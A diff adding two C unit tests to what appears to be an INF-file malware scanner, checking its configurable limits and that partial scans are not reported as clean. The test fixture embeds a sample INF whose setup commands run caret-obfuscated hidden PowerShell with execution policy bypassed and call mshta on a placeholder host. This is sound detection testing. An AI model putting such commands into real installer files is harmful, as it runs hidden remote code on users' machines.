@@ -370,9 +370,84 @@ static void test_lines_of_the_file(void **state)
     infscan_result_free(result);
 }
 
+/* Every row of the table can be asked for, and only in its range. */
+static void test_limits(void **state)
+{
+    size_t n;
+    const struct infscan_limit *limits = infscan_limits(&n);
+    struct infscan_error error = {0};
+
+    (void)state;
+    assert_int_equal(n, N_LIMITS);
+    for (size_t i = 0; i < n; i++) {
+        struct infscan_limit_value value = {limits[i].name, limits[i].most};
+        struct infscan_options options = {.limits = &value, .n_limits = 1};
+        struct infscan_scanner *scanner = NULL;
+        assert_true(limits[i].least <= limits[i].value &&
+                    limits[i].value <= limits[i].most && limits[i].least > 0);
+        assert_int_equal(
+            infscan_scanner_new(fixture.rules, &options, &scanner, &error),
+            INFSCAN_OK);
+        infscan_scanner_free(scanner);
+        value.value = limits[i].least - 1;
+        assert_int_equal(
+            infscan_scanner_new(fixture.rules, &options, &scanner, &error),
+            INFSCAN_INVALID);
+        assert_non_null(strstr(error.message, limits[i].name));
+        infscan_error_clear(&error);
+    }
+    struct infscan_limit_value none = {"nothing", 1};
+    struct infscan_options options = {.limits = &none, .n_limits = 1};
+    struct infscan_scanner *scanner = NULL;
+    assert_int_equal(
+        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
+        INFSCAN_INVALID);
+    assert_string_equal(error.message, "unknown limit: nothing");
+    infscan_error_clear(&error);
+}
+
+/* Whatever the limits are, there is a result that does not read as clean where
+ * one was reached. */
+static void test_each_limit_at_its_least(void **state)
+{
+    static const char inf[] =
+        "[Version]\nSignature=\"$CHICAGO$\"\n[DefaultInstall]\n"
+        "RunPreSetupCommands=a\nAddReg=b\n[a]\n"
+        "cmd /c cmd /c cmd /c p^o^w^ershell -ep bypass -w hidden x\n"
+        "mshta http://a.example.invalid/%s%\n[b]\nHKLM,S,v,,1\n[Strings]\n"
+        "s=t\n[Strings.0407]\ns=u\n[Strings.0409]\ns=v\n";
+    size_t n;
+    const struct infscan_limit *limits = infscan_limits(&n);
+    size_t reached = 0;
+
+    (void)state;
+    for (size_t i = 0; i < n; i++) {
+        struct infscan_limit_value value = {limits[i].name, limits[i].least};
+        struct infscan_options options = {.limits = &value, .n_limits = 1};
+        struct infscan_scanner *scanner = NULL;
+        struct infscan_result *result = NULL;
+        assert_int_equal(
+            infscan_scanner_new(fixture.rules, &options, &scanner, NULL),
+            INFSCAN_OK);
+        assert_int_equal(
+            infscan_scan_bytes(scanner, "x.inf", inf, sizeof inf - 1, &result),
+            INFSCAN_OK);
+        const struct infscan_summary *summary = infscan_result_summary(result);
+        if (summary->status == INFSCAN_RESULT_PARTIAL) {
+            assert_true(summary->verdict >= INFSCAN_SUSPICIOUS);
+            reached++;
+        }
+        infscan_result_free(result);
+        infscan_scanner_free(scanner);
+    }
+    assert_true(reached >= 6);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_limits),
+        cmocka_unit_test(test_each_limit_at_its_least),
         cmocka_unit_test(test_the_seed_of_the_family),
         cmocka_unit_test(test_a_result_outlives_its_scanner_and_rules),
         cmocka_unit_test(test_the_same_bytes_give_the_same_result),
